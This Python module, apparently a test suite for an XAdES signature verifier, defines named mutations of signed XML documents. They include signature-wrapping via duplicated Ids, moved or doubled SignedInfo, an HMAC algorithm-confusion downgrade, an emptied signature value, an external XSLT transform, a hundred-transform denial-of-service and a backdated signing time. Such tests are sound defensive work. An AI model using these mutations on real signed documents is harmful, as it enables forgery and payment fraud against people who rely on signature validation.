"""How does one attack a XAdES signature? Each attack is a name and a change to the tree of a good document."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

from lxml import etree

DS = "{http://www.w3.org/2000/09/xmldsig#}"
XADES = "{http://uri.etsi.org/01903/v1.3.2#}"
WSU = "{http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd}"

Attack = Callable[[Any], Any]
ATTACKS: dict[str, Attack] = {}


def attack(change: Attack) -> Attack:
    """Take a change of the root element (which returns the new root) into the suite, under its own name."""
    ATTACKS[change.__name__] = change
    return change


def mounted(name: str, document: bytes) -> bytes:
    """The document after the attack of that name."""
    return bytes(etree.tostring(ATTACKS[name](etree.fromstring(document))))


def _signature(root: Any) -> Any:
    return next(root.iter(DS + "Signature"))


def _properties(root: Any) -> Any:
    return next(root.iter(XADES + "SignedProperties"))


def _doubled_properties(root: Any, attribute: str) -> Any:
    fake = etree.SubElement(_signature(root), DS + "Object")
    fake.append(etree.Element("anything", {attribute: _properties(root).get("Id")}))
    return root


@attack
def an_object_with_the_id_of_the_properties(root: Any) -> Any:
    return _doubled_properties(root, "Id")


@attack
def a_foreign_attribute_with_the_id_of_the_properties(root: Any) -> Any:
    return _doubled_properties(root, WSU + "Id")


@attack
def an_xml_id_like_that_of_the_properties(root: Any) -> Any:
    return _doubled_properties(root, "{http://www.w3.org/XML/1998/namespace}id")


@attack
def fake_properties_where_the_signed_ones_stood(root: Any) -> Any:
    signed = _properties(root)
    fake = copy.deepcopy(signed)
    fake.set("Id", "other")
    signed.getparent().replace(signed, fake)
    etree.SubElement(_signature(root), DS + "Object").append(signed)
    return root


@attack
def a_second_set_of_qualifying_properties(root: Any) -> Any:
    holder = _properties(root).getparent().getparent()
    again = copy.deepcopy(holder)
    for node in again.iter():
        node.attrib.pop("Id", None)
    holder.addprevious(again)
    return root


@attack
def qualifying_properties_by_reference(root: Any) -> Any:
    holder = etree.SubElement(_signature(root), DS + "Object")
    etree.SubElement(holder, XADES + "QualifyingPropertiesReference", URI="http://example.org/properties.xml")
    return root


@attack
def an_earlier_signing_time(root: Any) -> Any:
    next(root.iter(XADES + "SigningTime")).text = "2001-01-01T00:00:00Z"
    return root


@attack
def a_signing_time_split_by_a_comment(root: Any) -> Any:
    node = next(root.iter(XADES + "SigningTime"))
    comment = etree.Comment("x")
    comment.tail = "1" + node.text
    node.text = "2"
    node.append(comment)
    return root


@attack
def properties_meant_for_another_signature(root: Any) -> Any:
    _properties(root).getparent().set("Target", "#other")
    return root


@attack
def the_reference_to_the_properties_taken_out(root: Any) -> Any:
    info = _signature(root)[0]
    info.remove(info.find(DS + "Reference"))
    return root


@attack
def an_external_style_sheet_among_the_transforms(root: Any) -> Any:
    reference = _signature(root)[0].findall(DS + "Reference")[-1]
    steps = reference.find(DS + "Transforms")
    if steps is None:
        steps = etree.Element(DS + "Transforms")
        reference.insert(0, steps)
    etree.SubElement(steps, DS + "Transform", Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116")
    return root


@attack
def a_hundred_transforms(root: Any) -> Any:
    steps = etree.Element(DS + "Transforms")
    for _ in range(100):
        etree.SubElement(steps, DS + "Transform", Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#")
    reference = _signature(root)[0].findall(DS + "Reference")[-1]
    for old in reference.findall(DS + "Transforms"):
        reference.remove(old)
    reference.insert(0, steps)
    return root


@attack
def an_hmac_with_the_public_key(root: Any) -> Any:
    method = next(root.iter(DS + "SignatureMethod"))
    method.set("Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1")
    etree.SubElement(method, DS + "HMACOutputLength").text = "0"
    return root


@attack
def an_empty_signature_value(root: Any) -> Any:
    next(root.iter(DS + "SignatureValue")).text = ""
    return root


@attack
def the_signature_without_its_certificate(root: Any) -> Any:
    signature = _signature(root)
    signature.remove(signature.find(DS + "KeyInfo"))
    return root


@attack
def signed_info_moved_into_an_object(root: Any) -> Any:
    signature = _signature(root)
    etree.SubElement(signature, DS + "Object").append(signature[0])
    return root


@attack
def a_second_signed_info(root: Any) -> Any:
    signature = _signature(root)
    signature.insert(0, copy.deepcopy(signature[0]))
    return root


@attack
def a_false_message_around_the_signed_document(root: Any) -> Any:
    message = etree.Element("message")
    etree.SubElement(message, "pay", to="the attacker").text = "all of it"
    message.append(root)
    return message
